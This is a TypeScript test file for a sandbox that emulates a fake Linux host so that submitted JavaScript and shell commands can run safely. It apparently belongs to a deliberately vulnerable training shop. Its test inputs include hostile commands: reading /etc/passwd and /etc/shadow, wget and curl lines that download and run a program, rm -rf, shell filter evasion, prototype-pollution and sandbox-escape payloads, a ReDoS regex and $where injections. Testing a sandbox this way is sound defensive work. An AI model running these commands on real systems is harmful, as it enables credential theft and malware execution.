import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { scriptJob } from '../javascript/job.ts'
import { openJavascript } from '../javascript/worker.ts'
import { Sandbox } from '../sandbox.ts'
import type { FakeHost } from './host.ts'

let sandbox: Sandbox

beforeAll(() => {
  sandbox = new Sandbox({ workers: 1 })
})
afterAll(() => sandbox.close())

const WORLD: FakeHost = {
  files: { '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n', '/juice-shop/package.json': '{"name":"shop"}' },
  env: { NODE_ENV: 'production' },
  cwd: '/juice-shop',
  user: 'nonroot',
  hostname: 'fruit-1',
}

const run = (source: string) => sandbox.runOnFakeHost({ source, owner: 'anna' }, WORLD)

describe('a script on the fake host', () => {
  it.each([
    ["require('fs').readFileSync('/etc/passwd', 'utf8').split(':')[0]", 'root'],
    [
      "global.process.mainModule.require('child_process').execSync('id').startsWith('uid=65532(nonroot)')",
      true,
    ],
    [
      "require('node:child_process').execSync('cat /etc/passwd | grep root && whoami').endsWith('nonroot\\n')",
      true,
    ],
    ['process.env.NODE_ENV + process.cwd()', 'production/juice-shop'],
    ["require('fs').readdirSync('.')", ['package.json']],
    ["require('child_process').execSync('echo hi > note; cat note || echo no')", 'hi\n'],
    ["require('child_process').execSync('echo a >> n; echo b >> n; echo c 1>> n; cat n')", 'a\nb\nc\n'],
    ["require('child_process').execSync('echo a > n; echo b > n; cat n')", 'b\n'],
    ["String(require('child_process').exec('ls'))", '[object Object]'],
    ["(() => {}).constructor('return process.version')().startsWith('v')", true],
  ])('finds the usual %s', async (source, value) => {
    expect(await run(source)).toMatchObject({ value, error: undefined })
  })

  it.each([
    ["require('fs').readFileSync('/etc/shadow')", /ENOENT/],
    ["require('fs').writeFileSync('/etc/passwd', '')", /EACCES/],
    ["require('vm2')", /Cannot find module 'vm2'/],
    ["require('child_process').execSync('rm -rf /tmp && missing')", /missing: not found/],
    ['process.exit(1)', /./],
    [`require('fs').readFileSync('${import.meta.filename}')`, /ENOENT/],
  ])('is refused as on a real machine: %s', async (source, words) => {
    expect((await run(source)).error?.message).toMatch(words)
  })

  it('downloads a program and runs it, and all of it is recorded', async () => {
    const line = 'wget -O malware https://example.org/a/malware?raw=true && chmod +x malware && ./malware'
    const { effects, error } = await run(`require('child_process').exec(${JSON.stringify(line)})`)
    expect(error).toBeUndefined()
    expect(effects).toEqual({
      commands: [line],
      requests: ['https://example.org/a/malware?raw=true'],
      ran: [{ program: '/juice-shop/malware', from: 'https://example.org/a/malware?raw=true' }],
    })
  })

  it('cannot run a file that is not executable', async () => {
    const { effects } = await run("require('child_process').exec('curl -o x http://a.b/x && ./x')")
    expect(effects.ran).toEqual([])
  })

  it('has its effects reported even if it fails later', async () => {
    const { effects, error } = await run("require('child_process').exec('id'); throw new Error('later')")
    expect(error?.message).toBe('later')
    expect(effects.commands).toEqual(['id'])
  })
})

const FORGED = [
  ['JSON', 'JSON.stringify = () => \'{"ran":[{"from":"x"}]}\'; JSON.parse = () => ({ value: 1 }); 1'],
  ['lists', "Array.prototype.push = function () { this[0] = 'forged'; return 1 }; require('os').hostname()"],
  [
    'texts and their conversions',
    "String.prototype.toJSON = () => 'forged'; Object.prototype.toJSON = () => ({ ran: [1] }); process.cwd()",
  ],
  [
    'getters and setters of everything',
    "for (const key of ['commands', 'requests', 'ran', 'value', '0', 'length']) Object.defineProperty(Object.prototype, key, { get: () => ['forged'], set() {} }); 1",
  ],
  [
    'patterns and maps',
    "RegExp.prototype.exec = () => ['x', './x']; Map.prototype.get = () => ({ mayRun: true, from: 'x' }); require('fs').existsSync('/x')",
  ],
  [
    'calls',
    "Function.prototype.call = Function.prototype.apply = Reflect.apply = () => 'forged'; process.uptime()",
  ],
] as const

describe('the host reports what a script did, not the script:', () => {
  it.each(FORGED)('even if a script changes %s', async (_what, source) => {
    expect((await run(source)).effects).toEqual({ commands: [], requests: [], ran: [] })
  })

  it('real effects are still reported', async () => {
    const { effects } = await run(
      "Array.prototype.push = () => 0; Map.prototype.get = () => 0; JSON.parse = () => ({}); require('child_process').exec('wget -O a http://b.c/a && chmod +x a && ./a')",
    )
    expect(effects.requests).toEqual(['http://b.c/a'])
    expect(effects.ran).toEqual([{ program: '/juice-shop/a', from: 'http://b.c/a' }])
  })

  it('effects before a timeout are reported as well', async () => {
    const work = await openJavascript()
    const source = "require('child_process').exec('id'); for (;;);"
    const job = scriptJob({ source, deadlineMs: 100, owner: 'anna' }, { fakeHost: WORLD })
    expect(work(job).outcome).toMatchObject({
      fault: { timedOut: true },
      effects: { commands: ['id'], requests: [], ran: [] },
    })
  })

  it('the host exposes no object of its own realm', async () => {
    const { effects, value } = await run(
      `let found = 'nothing'
      try { require('fs').readFileSync('/missing') } catch (error) {
        error.constructor.constructor('Array.prototype.push = function () { this[0] = 1 }; Map.prototype.has = () => true')()
        found = error.code
      }
      require('child_process').execSync('echo hi')
      found`,
    )
    expect(value).toBe('ENOENT')
    expect(effects.commands).toEqual(['echo hi'])
  })

  it('reports are limited in length', async () => {
    const { effects } = await run(
      "for (let i = 0; i < 60; i++) { try { require('child_process').execSync('true ' + 'x'.repeat(5000)); fetch('y'.repeat(5000)) } catch {} } 1",
    )
    expect(effects.commands.length).toBeGreaterThan(10)
    expect(JSON.stringify(effects).length).toBeLessThan(64 << 10)
  })
})

describe('the size of what a script brings is limited:', () => {
  const long = 'x'.repeat((1 << 20) + 1)
  it.each([
    ['itself', { source: `1 // ${long}` }, WORLD],
    ['wide letters', { source: `1 // ${'ж'.repeat(40_000)}` }, WORLD],
    ['its globals', { source: '1', globals: { long } }, WORLD],
    ['its world', { source: '1' }, { ...WORLD, files: { '/a': `ж${long}` } }],
  ])('%s', async (_what, job, world) => {
    const { error } = await sandbox.runOnFakeHost({ ...job, owner: 'anna' }, world)
    expect(error).toMatchObject({ name: 'RangeError', message: expect.stringContaining('too long') })
  })

  it('a host full of files with wide characters is accepted', async () => {
    const files = Object.fromEntries(
      Array.from({ length: 8 }, (_, index) => [`/${index}`, `ж${'\0'.repeat((64 << 10) - 2)}`]),
    )
    const job = { source: "require('fs').readFileSync('/7').length", owner: 'anna' }
    expect(await sandbox.runOnFakeHost(job, { ...WORLD, files })).toMatchObject({
      value: 65_535,
      error: undefined,
    })
  })
})

describe('a $where expression', () => {
  const documents = [{ product: 1 }, { product: 2 }, { product: 3 }]
  const where = (expression: string) => sandbox.where(expression, documents, 'anna')

  it('sees each document as `this`', async () => {
    expect((await where('this.product == 2')).matches).toEqual([false, true, false])
    expect((await where('this.product == 1 || true')).matches).toEqual([true, true, true])
  })

  it('sees as many documents as fit, and ignores the rest', async () => {
    const many = Array.from({ length: 5_000 }, () => ({ message: 'x'.repeat(1_000) }))
    const { matches } = await sandbox.where("this.message + 'all'", many, 'anna')
    expect(matches).toHaveLength(5_000)
    expect(matches[0]).toBe(true)
    expect(matches.at(-1)).toBe(false)
  })

  it('returns only booleans', async () => {
    const answer = '1 }).call(one) }), Array(349000).fill([])) || ((function () { return 1'
    const result = await where(answer).catch(({ name }) => name)
    expect(['RangeError', 'SyntaxError', 'TypeError']).toContain(result)
  })

  it('may sleep, which is counted but takes no time', async () => {
    expect((await where('this.product == sleep(999999)')).sleptMs).toBe(6_000)
    expect((await where('this.product == sleep(-1)')).sleptMs).toBe(0)
  })

  it.each(['this.product == kaboom', 'this.product == ', "process.exit() || '"])(
    'reports the error in %s',
    async (expression) => {
      await expect(where(expression)).rejects.toMatchObject({ name: /ReferenceError|SyntaxError/ })
    },
  )
})

describe('a script with a loop limit', () => {
  const limited = (source: string) =>
    sandbox.javascript({ source, mostTurns: 1_000, deadlineMs: 300, owner: 'anna' })

  it.each([
    '(function dos() { while(true); })()',
    'for (;;) {}',
    'do ; while (1)',
    'let i = 0; while (i < 2000) i++',
    'for (let a = 0; a < 100; a++) for (let b = 0; b < 100; b++) a',
  ])('is stopped: %s', async (source) => {
    await expect(limited(source)).rejects.toThrow(/^Infinite loop detected - reached max iterations$/)
  })

  it.each([
    ['let n = 0; for (const x of [1, 2, 3]) n += x; n', 6],
    ['[1, 2].map((x) => x * 2)', [2, 4]],
  ])('runs to its end: %s', async (source, value) => {
    expect(await limited(source)).toEqual(value)
  })

  it('still times out outside of loops', async () => {
    const endless = limited("/((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaa')")
    await expect(endless).rejects.toMatchObject({ timedOut: true })
  })
})

describe('the shell of the fake host', () => {
  const ends = async (line: string) => {
    const source = `require('child_process').spawnSync('sh', ['-c', ${JSON.stringify(line)}])`
    const { stdout, stderr, status } = Object((await run(source)).value)
    return { stdout, stderr, status }
  }
  const prints = async (line: string) => (await ends(line)).stdout

  it.each([
    [`echo "a b"  'c  d' e\\ f g"h"'i'`, 'a b c  d e f ghi\n'],
    ['echo "say \\"hi\\" for \\$5 \\\\ and \\x"', 'say "hi" for $5 \\ and \\x\n'],
    [`echo "it's; a & b | c # d > e"`, `it's; a & b | c # d > e\n`],
    ['echo $HOSTNAME-$NODE_ENV "$' + '{NODE_ENV}" $ 5$', '-production production $ 5$\n'],
    ['echo one # two', 'one\n'],
    ['echo a#b', 'a#b\n'],
    [
      'echo $(echo "in $(whoami)") `hostname` "`echo \\`id -u\\``"',
      'in nonroot fruit-1 uid=65532(nonroot) gid=65532(nonroot) groups=65532(nonroot)\n',
    ],
    ["echo '$(whoami)' \\$x", '$(whoami) $x\n'],
    ['cat$IFS/etc/passwd', 'root:x:0:0:root:/root:/bin/sh\n'],
    ['cat /etc/pass*', 'root:x:0:0:root:/root:/bin/sh\n'],
    ['echo /etc/*ssw?', '/etc/passwd\n'],
    ['echo /etc/p?swd /etc/pass?d? /etc/*s*s*', '/etc/p?swd /etc/pass?d? /etc/passwd\n'],
    ['echo /etc/nothing*', '/etc/nothing*\n'],
    ['echo a > n; echo b > m; cat n /etc m; tail n m; grep a n m', 'a\nb\na\nb\nn:a\n'],
    ['cat < /etc/passwd', 'root:x:0:0:root:/root:/bin/sh\n'],
    ['echo a\necho b;echo c&echo d', 'a\nb\nc\nd\n'],
    ['true && echo a || echo b', 'a\n'],
    ['missing 2>/dev/null || echo b', 'b\n'],
    ['echo hi > note && cat note', 'hi\n'],
    ['labelmaker --size M --text "Plum & Quince"', 'Plum & Quince\n'],
  ])('prints what a real shell would for %s', async (line, printed) => {
    expect(await prints(line)).toBe(printed)
  })

  it.each([
    ['echo "a', /Unterminated quoted string/],
    ["echo 'a", /Unterminated quoted string/],
    ['echo $(whoami', /end of file unexpected/],
    ['echo `whoami', /backquote/],
    ['| cat', /"\|" unexpected/],
    ['echo (', /"\(" unexpected/],
    ['missing', /missing: not found/],
    ['cat /etc /etc/none', /EISDIR.*\nENOENT/],
    ['missing "$(absent)"', /absent: not found\n.*missing: not found/],
    ['labelmaker --size XL --text x', /no such size: XL/],
    ['labelmaker --size M', /--text is missing/],
  ])('reports the error in %s', async (line, words) => {
    const { stderr, status } = await ends(line)
    expect(stderr).toMatch(words)
    expect(status).toBe(1)
  })

  it('continues after a failing command, and reports both', async () => {
    expect(await ends('missing; echo on')).toEqual({
      stdout: 'on\n',
      stderr: '/bin/sh: 1: missing: not found\n',
      status: 0,
    })
  })

  it('is not used if a program is run with separate arguments', async () => {
    const source = `require('child_process').spawnSync('echo', ['$(whoami); "x" \\'y\\''])`
    expect((await run(source)).value).toMatchObject({ stdout: `$(whoami); "x" 'y'\n`, status: 0 })
  })
})
